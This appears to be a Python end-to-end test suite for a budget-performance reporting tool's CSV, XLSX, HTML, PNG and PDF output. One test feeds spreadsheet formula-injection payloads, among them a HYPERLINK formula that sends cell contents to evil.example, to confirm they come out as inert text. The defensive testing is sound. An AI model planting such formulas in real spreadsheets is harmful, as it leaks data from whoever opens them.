#!/usr/bin/env python3
"""End-to-end tests of `targetwatch report` on the bundled example (fixture copy under
tests/fixtures/report/): the command line against the golden Markdown, the HTML rendered by
headless Chromium to a PNG and an A4-landscape PDF without console errors and with its key figures
in the DOM, and the XLSX opened and checked cell by cell against the CSV of the same report.

Usage: review_render_test.py --cli PATH/targetwatch --source DIR --out DIR [unittest args]
UPDATE_SCREENSHOT=1 also copies the PNG to docs/report-example.png (the README's screenshot).
Stdlib only.
"""
import argparse
import csv
import datetime
import html.parser
import io
import os
import re
import shutil
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree as ET
import zipfile

ARGS = None
DATE = "2025-06-30"
RULES = "plan,time-progress,milestones"
FIXTURES = "tests/fixtures/report"
LEGAL_AID = "13100025P00041210001X"  # 法律援助工作中央资金: checked by hand in review_test.cpp


def src(path):
    return os.path.join(ARGS.source, path)


def out(name):
    os.makedirs(ARGS.out, exist_ok=True)
    return os.path.join(ARGS.out, name)


def report(*extra, check_code=0, text=True):
    cmd = [ARGS.cli, "report", "--targets", src(FIXTURES + "/langfang-justice-2025.toml"),
           "--actuals", src(FIXTURES + "/actuals-2025.csv"), "--rules", RULES, *extra]
    proc = subprocess.run(cmd, capture_output=True, text=text, timeout=120)
    if check_code is not None and proc.returncode != check_code:
        raise AssertionError("%s: exit %d, expected %d\nstderr:\n%s" % (
            " ".join(cmd), proc.returncode, check_code, proc.stderr))
    return proc


_CSV_CACHE = {}

# The report CSV's Chinese headers (the default, for Excel) and the machine names they stand for
# (`--csv-headers en`): the column order is the same.
ZH_COLUMNS = {
    "部门编码": "department",
    "部门名称": "department_name",
    "截至日期": "as_of",
    "行类型": "row",
    "项目编码": "project",
    "项目名称": "project_name",
    "指标编号": "indicator",
    "一级指标": "level1",
    "二级指标": "level2",
    "三级指标": "name",
    "比较方式": "comparator",
    "年度指标值": "target",
    "计量单位": "unit",
    "指标值（文字）": "target_text",
    "实际完成": "actual",
    "序时应完成": "expected",
    "全年预计": "projected",
    "预计依据": "projected_basis",
    "状态": "status",
    "过期前状态": "underlying_status",
    "预警": "lamp",
    "预警明细": "warnings",
    "需关注": "attention",
    "变化": "change",
    "上期预警": "previous_lamp",
    "预算（元）": "budget_yuan",
    "已支出（元）": "spent_yuan",
    "执行率": "spent_ratio",
    "计划进度": "planned_ratio",
    "应达进度": "required_ratio",
    "偏差": "lag_ratio",
    "序时进度": "elapsed_ratio",
    "执行率/序时进度（%）": "time_progress_pct",
    "下一检查点": "next_checkpoint",
    "下一检查点进度": "next_checkpoint_share",
    "每日需支出（元）": "required_daily_spend_yuan",
    "按近期进度预计年末执行率": "projected_year_end_ratio",
    "权重": "weight",
    "得分": "score",
    "等级": "grade",
    "最近填报": "last_report",
    "偏差原因类别": "cause",
    "完成可能性": "likelihood",
    "全年预测": "forecast",
    "整改措施": "measure",
    "说明": "note",
    "年度": "fiscal_year",
    "填报频次": "frequency",
    "得分覆盖率": "score_coverage_ratio",
    "财政拨款执行率": "fiscal_spent_ratio",
    "其他资金执行率": "other_spent_ratio",
    "项目平均得分": "projects_score",
    "项目得分覆盖率": "projects_score_coverage_ratio",
}


def read_report_csv(text):
    """Rows of a report CSV keyed by the machine names, whichever headers it was written with."""
    if text.startswith("\ufeff"):
        text = text[1:]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = [ZH_COLUMNS.get(h, h) for h in rows[0]]
    return [dict(zip(header, r)) for r in rows[1:]]


def unguarded(text):
    """A CSV text cell without the formula-injection apostrophe (what the XLSX string holds)."""
    return text[1:] if text[:1] == "'" and text[1:2] in ("=", "+", "-", "@", "\t", "\r") else text


def csv_rows(date=DATE):
    if date not in _CSV_CACHE:
        text = report("--as-of", date, "--format", "csv").stdout
        _CSV_CACHE[date] = read_report_csv(text)
    return _CSV_CACHE[date]


def spending_rows(date=DATE):
    return [r for r in csv_rows(date) if r["row"] == "spending"]


class CliTest(unittest.TestCase):
    def test_markdown_matches_the_golden_file(self):
        for date in ("2025-06-30", "2025-10-31"):
            md = report("--as-of", date, "--format", "md").stdout
            with open(src(FIXTURES + "/review-%s.md" % date), encoding="utf-8") as f:
                self.assertEqual(md, f.read(), date)

    def test_default_date_is_the_end_of_the_previous_month(self):
        first = datetime.date.today().replace(day=1)
        expected = first - datetime.timedelta(days=1)
        md = report("--format", "md").stdout
        self.assertIn("截至 %s" % expected.isoformat(), md.splitlines()[2])

    def test_format_from_the_output_extension(self):
        path = out("cli-format.csv")
        report("--as-of", DATE, "-o", path)
        with open(path, "rb") as f:
            head = f.readline()
        # UTF-8 with a BOM and Chinese headers: what Excel on Chinese Windows opens right.
        self.assertTrue(head.startswith("\ufeff部门编码,部门名称,截至日期,行类型".encode()), head)

    def test_hostile_notes_stay_text(self):
        """Formula injection (CWE-1236): notes reach the CSV guarded and the XLSX as strings."""
        hostile = out("hostile-actuals.csv")
        note = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
        with open(hostile, "w", encoding="utf-8", newline="") as f:
            w = csv.writer(f)
            w.writerow(["project", "indicator", "value", "as_of", "note", "measure"])
            w.writerow([LEGAL_AID, "spending", "30", DATE, note, "@SUM(1+1)"])
            w.writerow([LEGAL_AID, "quantity-1", "100", DATE, "-2+3", "+cmd"])
        base = [ARGS.cli, "report", "--targets", src(FIXTURES + "/langfang-justice-2025.toml"),
                "--actuals", hostile, "--as-of", DATE, "--rules", RULES]
        text = subprocess.run(base + ["--format", "csv"], capture_output=True, text=True,
                              timeout=120, check=True).stdout
        rows = read_report_csv(text)
        spend = next(r for r in rows if r["row"] == "spending" and r["project"] == LEGAL_AID)
        self.assertEqual(spend["note"], "'" + note)
        self.assertEqual(spend["measure"], "'@SUM(1+1)")
        for row in rows:
            for value in row.values():
                self.assertFalse(value[:1] in ("=", "+", "@", "\t", "\r"), value)
        path = out("hostile.xlsx")
        subprocess.run(base + ["--format", "xlsx", "-o", path], check=True, timeout=120)
        wb = Workbook(path)
        for name, sheet in wb.sheets:
            xml = wb.zip.read(sheet).decode("utf-8")
            self.assertNotIn("<f>", xml, name)
            self.assertNotIn("<f ", xml, name)
        self.assertIn(note, wb.strings)  # the note as written, as a string cell

    def test_department_filter_and_errors(self):
        md = report("--as-of", DATE, "--department", "375").stdout
        self.assertIn("廊坊市司法局（375）", md)
        self.assertIn("no department '999'",
                      report("--as-of", DATE, "--department", "999", check_code=64).stderr)
        report("--as-of", DATE, "--format", "pdf", check_code=64)
        report("--as-of", "2025-02-30", check_code=64)
        report("--as-of", DATE, "--rules", "plan,bogus", check_code=64)
        proc = subprocess.run([ARGS.cli, "report", "--targets", src(FIXTURES + "/none.toml"),
                               "--actuals", src(FIXTURES + "/actuals-2025.csv")],
                              capture_output=True, text=True, timeout=60)
        self.assertNotEqual(proc.returncode, 0)
        proc = subprocess.run([ARGS.cli, "report", "--targets", src(FIXTURES), "--store",
                               out("no-such-store.db")], capture_output=True, text=True,
                              timeout=60)
        self.assertEqual(proc.returncode, 66, proc.stderr)

    def test_settings_pick_the_rules(self):
        md = subprocess.run(
            [ARGS.cli, "report", "--targets", src(FIXTURES + "/langfang-justice-2025.toml"),
             "--actuals", src(FIXTURES + "/actuals-2025.csv"), "--as-of", DATE,
             "--settings", src("config/targetwatch.toml")],
            capture_output=True, text=True, timeout=60, check=True).stdout
        self.assertIn("预警规则：支出计划（plan）、序时进度（time-progress）。", md)


class _Dom(html.parser.HTMLParser):
    """Collects the text of cells marked data-field inside each project section."""

    def __init__(self):
        super().__init__()
        self.project = None
        self.field = None
        self.fields = {}
        self.sections = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "section" and "project" in (a.get("class") or "").split():
            self.project = a.get("data-project")
            self.sections.append(self.project)
        if tag == "td" and a.get("data-field"):
            self.field = a["data-field"]

    def handle_endtag(self, tag):
        if tag == "td":
            self.field = None

    def handle_data(self, data):
        self.text.append(data)
        if self.field and self.project:
            self.fields[(self.project, self.field)] = data.strip()


def chromium():
    for name in ("chromium", "chromium-browser", "google-chrome"):
        path = shutil.which(name)
        if path:
            return path
    return None


class HtmlChromiumTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.browser = chromium()
        if not cls.browser:
            raise unittest.SkipTest("chromium is not installed (scripts/setup-deps.sh)")
        cls.html = out("review-%s.html" % DATE)
        report("--as-of", DATE, "--format", "html", "-o", cls.html)
        cls.profile = tempfile.mkdtemp(prefix="targetwatch-chromium-")

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(getattr(cls, "profile", ""), ignore_errors=True)

    def run_chromium(self, *args):
        cmd = [self.browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
               "--no-first-run", "--disable-background-networking", "--disable-component-update",
               "--disable-sync", "--hide-scrollbars", "--user-data-dir=" + self.profile,
               "--enable-logging=stderr", "--v=0", *args, "file://" + self.html]
        proc = subprocess.run(cmd, capture_output=True, text=True, timeout=180)
        self.assertEqual(proc.returncode, 0, proc.stderr[-3000:])
        # Page problems: console messages (errors, CSP, failed loads) and uncaught exceptions.
        # The browser's own D-Bus/GPU chatter in a container is not about the page.
        page = [l for l in proc.stderr.splitlines()
                if "CONSOLE" in l or "Uncaught" in l or "Failed to load resource" in l
                or "net::ERR" in l]
        self.assertEqual(page, [], "console output of the page")
        return proc

    def test_png_screenshot(self):
        png = out("review-%s.png" % DATE)
        if os.path.exists(png):
            os.remove(png)
        self.run_chromium("--window-size=1280,1700", "--screenshot=" + png)
        with open(png, "rb") as f:
            data = f.read()
        self.assertEqual(data[:8], b"\x89PNG\r\n\x1a\n")
        width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
        self.assertEqual((width, height), (1280, 1700))
        self.assertGreater(len(data), 50_000, "a blank page compresses to a few KB")
        if os.environ.get("UPDATE_SCREENSHOT") == "1":
            os.makedirs(src("docs"), exist_ok=True)
            shutil.copyfile(png, src("docs/report-example.png"))

    def test_pdf_is_a4_landscape_with_a_page_per_project(self):
        pdf = out("review-%s.pdf" % DATE)
        if os.path.exists(pdf):
            os.remove(pdf)
        self.run_chromium("--no-pdf-header-footer", "--print-to-pdf=" + pdf)
        with open(pdf, "rb") as f:
            data = f.read()
        self.assertTrue(data.startswith(b"%PDF-"))
        pages = len(re.findall(rb"/Type\s*/Page(?![s\w])", data))
        projects = len(spending_rows())
        # Summary, department-wide indicators, then at least a page per project.
        self.assertGreaterEqual(pages, projects + 2)
        boxes = re.findall(rb"/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)\s*\]", data)
        self.assertTrue(boxes)
        for w, h in boxes:
            self.assertAlmostEqual(float(w), 841.9, delta=1.5)  # 297 mm
            self.assertAlmostEqual(float(h), 595.3, delta=1.5)  # 210 mm

    def test_dom_has_the_key_figures(self):
        proc = self.run_chromium("--dump-dom")
        dom = _Dom()
        dom.feed(proc.stdout)
        text = "".join(dom.text)
        rows = spending_rows()
        self.assertEqual(dom.sections, [r["project"] for r in rows])
        for r in rows:
            # The same spent share as the CSV (and so the status JSON: review_test.cpp).
            self.assertEqual(dom.fields[(r["project"], "spent_ratio")],
                             "%.2f%%" % (float(r["spent_ratio"]) * 100), r["project"])
        dept = next(r for r in csv_rows() if r["row"] == "department")
        self.assertIn("%.2f" % (float(dept["budget_yuan"]) / 1e4), text)
        self.assertIn("绩效运行监控月度报告", text)
        self.assertIn("需关注事项", text)
        self.assertIn("与上期相比（上期 2025-05-31）", text)
        self.assertEqual(dom.fields[(LEGAL_AID, "spent_ratio")], "60.59%")
        self.assertIn("1,626.02", text)  # its required daily spend, checked by hand
        self.assertIn("二季度停水检修两次", text)  # a deviation reason
        self.assertIn("更换老化供水管线", text)  # its measure


NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
      "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships"}
BUILTIN_FORMATS = {0: "General", 4: "#,##0.00", 10: "0.00%", 14: "m/d/yyyy"}


class Workbook:
    """Just enough of SpreadsheetML to read values and number formats (stdlib only)."""

    def __init__(self, path):
        self.zip = zipfile.ZipFile(path)
        wb = ET.fromstring(self.zip.read("xl/workbook.xml"))
        rels = ET.fromstring(self.zip.read("xl/_rels/workbook.xml.rels"))
        targets = {r.get("Id"): r.get("Target") for r in rels}
        self.sheets = [(s.get("name"),
                        "xl/" + targets[s.get("{%s}id" % NS["r"])].lstrip("/").replace("xl/", ""))
                       for s in wb.find("m:sheets", NS)]
        self.strings = []
        if "xl/sharedStrings.xml" in self.zip.namelist():
            for si in ET.fromstring(self.zip.read("xl/sharedStrings.xml")).findall("m:si", NS):
                self.strings.append("".join(t.text or "" for t in si.iter("{%s}t" % NS["m"])))
        styles = ET.fromstring(self.zip.read("xl/styles.xml"))
        formats = dict(BUILTIN_FORMATS)
        numfmts = styles.find("m:numFmts", NS)
        for nf in (numfmts if numfmts is not None else []):
            formats[int(nf.get("numFmtId"))] = nf.get("formatCode")
        self.xf_format = [formats.get(int(xf.get("numFmtId", "0")), "?")
                          for xf in styles.find("m:cellXfs", NS)]
        self.xf_fill = [int(xf.get("fillId", "0")) for xf in styles.find("m:cellXfs", NS)]
        self.fills = []
        for fill in styles.find("m:fills", NS):
            fg = fill.find("m:patternFill/m:fgColor", NS)
            self.fills.append(fg.get("rgb") if fg is not None else None)

    def cells(self, sheet_name):
        """{(row, col): (value, number format, fill rgb)} with 0-based row and column."""
        path = dict(self.sheets)[sheet_name]
        root = ET.fromstring(self.zip.read(path))
        out = {}
        for c in root.iter("{%s}c" % NS["m"]):
            ref = c.get("r")
            m = re.match(r"([A-Z]+)(\d+)", ref)
            col = 0
            for ch in m.group(1):
                col = col * 26 + ord(ch) - 64
            v = c.find("m:v", NS)
            t = c.get("t")
            value = None
            if v is not None:
                value = self.strings[int(v.text)] if t == "s" else float(v.text)
            style = int(c.get("s", "0"))
            out[(int(m.group(2)) - 1, col - 1)] = (value, self.xf_format[style],
                                                   self.fills[self.xf_fill[style]])
        return out


def find(cells, text):
    for pos, (value, _, _) in sorted(cells.items()):
        if value == text:
            return pos
    raise AssertionError("no cell %r" % text)


LAMPS = {"red": "红灯", "yellow": "黄灯", "green": "绿灯", "grey": "灰灯", "stale": "数据过期"}
FILLS = {"red": "FFC62828", "yellow": "FFFFD54F", "green": "FF2E7D32", "grey": "FFBDBDBD",
         "stale": "FFBDBDBD"}
STATUS = {"met": "已达成", "on_track": "正常", "at_risk": "有风险", "not_met": "未达成",
          "pending": "待评价", "no_data": "无数据", "stale": "数据过期"}


class XlsxTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.path = out("review-%s.xlsx" % DATE)
        report("--as-of", DATE, "--format", "xlsx", "-o", cls.path)
        cls.wb = Workbook(cls.path)

    def test_sheet_names(self):
        names = [n for n, _ in self.wb.sheets]
        self.assertEqual(names[0], "汇总")
        self.assertEqual(len(names), 1 + len(spending_rows()))
        self.assertEqual(len({n.lower() for n in names}), len(names))
        # Project sheets: the project code, then as much of the name as fits, never cut inside a
        # bracket (a half document number reads as another number).
        for n, row in zip(names[1:], spending_rows()):
            self.assertTrue(n.startswith(row["project"]), (n, row["project"]))
            rest = n[len(row["project"]):].strip()
            self.assertTrue(row["project_name"].startswith(rest), (n, row["project_name"]))
            if rest != row["project_name"]:
                self.assertFalse(any(b in rest for b in "（(〔[【《"), n)
        for n in names:
            self.assertTrue(0 < len(n.encode("utf-16-le")) // 2 <= 31, n)
            self.assertIsNone(re.search(r"[\[\]:*?/\\]", n), n)
            self.assertFalse(n.startswith("'") or n.endswith("'"), n)

    def test_summary_sheet(self):
        cells = self.wb.cells("汇总")
        dept = next(r for r in csv_rows() if r["row"] == "department")
        r, c = find(cells, "预算（万元）")
        value, fmt, _ = cells[(r + 1, c)]
        self.assertEqual(fmt, "#,##0.00")
        self.assertAlmostEqual(value, float(dept["budget_yuan"]) / 1e4, places=6)
        # Header -> column on the header row.
        header_cols = {v: cc for (rr, cc), (v, _, _) in cells.items() if rr == r}
        for header, field in (("执行率", "spent_ratio"), ("计划进度", "planned_ratio"),
                              ("应达进度", "required_ratio"), ("序时进度", "elapsed_ratio")):
            value, fmt, _ = cells[(r + 1, header_cols[header])]
            self.assertEqual(fmt, "0.00%", header)
            self.assertAlmostEqual(value, float(dept[field]), delta=5e-5, msg=header)
        value, fmt, _ = cells[(r + 1, header_cols["预计得分"])]
        self.assertAlmostEqual(value, float(dept["score"]), delta=0.005)
        # The project list links every sheet, with numbers as numbers.
        pr, pc = find(cells, "项目编码")
        cols = {v: cc for (rr, cc), (v, _, _) in cells.items() if rr == pr}
        for i, row in enumerate(spending_rows()):
            self.assertEqual(cells[(pr + 1 + i, cols["项目编码"])][0], row["project"])
            budget, fmt, _ = cells[(pr + 1 + i, cols["预算（万元）"])]
            self.assertEqual(fmt, "#,##0.00")
            self.assertAlmostEqual(budget, float(row["budget_yuan"]) / 1e4, places=6)
            ratio, fmt, _ = cells[(pr + 1 + i, cols["执行率"])]
            self.assertEqual(fmt, "0.00%")
            self.assertAlmostEqual(ratio, float(row["spent_ratio"]), delta=5e-5)
            lamp, _, fill = cells[(pr + 1 + i, cols["资金预警"])]
            self.assertTrue(lamp.startswith(LAMPS[row["lamp"]]), (lamp, row["lamp"]))
            self.assertEqual(fill, FILLS[row["lamp"]])
        # Problems first: the attention table lists red before yellow before the rest.
        ar, _ = find(cells, "类别")
        kinds = []
        row = ar + 1
        while (row, 0) in cells and cells[(row, 0)][0] in ("红灯", "黄灯", "未报送", "数据过期"):
            kinds.append(cells[(row, 0)][0])
            row += 1
        order = {"红灯": 0, "黄灯": 1, "未报送": 2, "数据过期": 2}
        self.assertEqual([order[k] for k in kinds], sorted(order[k] for k in kinds))
        self.assertIn("红灯", kinds)

    def test_project_sheets_cell_by_cell(self):
        rows = csv_rows()
        names = [n for n, _ in self.wb.sheets][1:]
        for name, spend in zip(names, spending_rows()):
            cells = self.wb.cells(name)
            self.assertEqual(cells[(0, 0)][0], spend["project_name"], name)
            self.assertIn(spend["project"], cells[(1, 0)][0])
            header = {v: cc for (rr, cc), (v, _, _) in cells.items() if rr == 4}
            expect = {"预算（万元）": (float(spend["budget_yuan"]) / 1e4, "#,##0.00", 1e-6),
                      "已支出（万元）": (float(spend["spent_yuan"]) / 1e4, "#,##0.00", 1e-6),
                      "执行率": (float(spend["spent_ratio"]), "0.00%", 5e-5),
                      "计划进度": (float(spend["planned_ratio"]), "0.00%", 5e-5),
                      "应达进度": (float(spend["required_ratio"]), "0.00%", 5e-5),
                      "偏差": (float(spend["lag_ratio"]), "0.00%", 5e-5)}
            if spend["required_daily_spend_yuan"]:
                expect["每日需支出（元）"] = (float(spend["required_daily_spend_yuan"]),
                                          "#,##0.00", 0.005)
            for h, (want, fmt, tol) in expect.items():
                value, got_fmt, _ = cells[(5, header[h])]
                self.assertIsInstance(value, float, (name, h))
                self.assertEqual(got_fmt, fmt, (name, h))
                self.assertAlmostEqual(value, want, delta=tol, msg=(name, h))
            if spend["next_checkpoint"]:
                value, fmt, _ = cells[(5, header["下一检查点"])]
                self.assertEqual(fmt, "yyyy-mm-dd")
                day = datetime.date(1899, 12, 30) + datetime.timedelta(days=int(value))
                self.assertEqual(day.isoformat(), spend["next_checkpoint"])
            self.assertTrue(cells[(5, header["资金预警"])][0].startswith(LAMPS[spend["lamp"]]))
            # The monitoring form, row by row.
            indicators = [r for r in rows if r["row"] == "indicator" and
                          r["project"] == spend["project"]]
            hr, _ = find(cells, "三级指标")
            cols = {v: cc for (rr, cc), (v, _, _) in cells.items() if rr == hr}
            for i, ind in enumerate(indicators):
                r = hr + 1 + i
                self.assertEqual(cells[(r, cols["一级指标"])][0], unguarded(ind["level1"]))
                self.assertEqual(cells[(r, cols["二级指标"])][0], unguarded(ind["level2"]))
                self.assertEqual(cells[(r, cols["三级指标"])][0], unguarded(ind["name"]))
                # "=3栋" is a target text: guarded in the CSV, a plain string in the XLSX.
                self.assertEqual(cells[(r, cols["年度指标值"])][0], unguarded(ind["target_text"]))
                self.assertTrue(cells[(r, cols["状态"])][0].startswith(STATUS[ind["status"]]))
                self.assertTrue(cells[(r, cols["预警"])][0].startswith(LAMPS[ind["lamp"]]))
                if ind["target"]:
                    self.assertAlmostEqual(cells[(r, cols["目标值"])][0], float(ind["target"]))
                numeric = ind["comparator"] not in ("qualitative", "deadline")
                if numeric and ind["actual"]:
                    value, fmt, _ = cells[(r, cols["实际完成"])]
                    self.assertAlmostEqual(value, float(ind["actual"]), delta=1e-6)
                if ind["expected"]:
                    self.assertAlmostEqual(cells[(r, cols["序时应完成"])][0],
                                           float(ind["expected"]), delta=1e-4)
                cause = ind["cause"] + ("：" + ind["note"] if ind["cause"] and ind["note"]
                                        else ind["note"])
                self.assertEqual(cells.get((r, cols["偏差原因"]), (None,))[0] or "",
                                 unguarded(cause))
                self.assertEqual(cells.get((r, cols["整改措施"]), (None,))[0] or "",
                                 unguarded(ind["measure"]))
            self.assertNotIn((hr + 1 + len(indicators), cols["三级指标"]), cells)


def main():
    global ARGS
    parser = argparse.ArgumentParser()
    parser.add_argument("--cli", required=True)
    parser.add_argument("--source", required=True)
    parser.add_argument("--out", required=True)
    ARGS, rest = parser.parse_known_args()
    unittest.main(argv=[sys.argv[0], *rest], verbosity=2)


if __name__ == "__main__":
    main()
